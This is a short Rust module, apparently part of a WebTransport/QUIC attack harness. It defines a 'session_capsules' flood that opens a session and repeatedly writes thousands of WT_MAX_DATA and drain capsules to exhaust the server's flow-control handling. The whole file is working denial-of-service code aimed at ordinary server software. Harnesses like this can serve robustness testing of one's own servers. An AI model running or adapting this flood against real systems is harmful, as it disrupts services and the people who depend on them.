//! WT_MAX_DATA capsules and drains without end.

use quinn_proto::StreamId;

use crate::attacker::{Attack, Attacker};
use crate::wire;

pub(super) const ATTACK: Attack = Attack::new("session_capsules", "flow control capsules in a session", run);

fn run(a: &mut Attacker) {
    let path = a.kind.open_session();
    let capsules = [wire::frame(0x190b_4d3d, &wire::varint(1 << 20)), wire::frame(0x78ae, b"")];
    let capsules = wire::data(&capsules.concat().repeat(1_000));
    a.storm(|conn, held: &mut Option<StreamId>| {
        if let Some(session) = conn.session(held, path)
            && conn.takes(session)
        {
            conn.write(session, &capsules);
            conn.ops += 2_000;
        }
    });
}
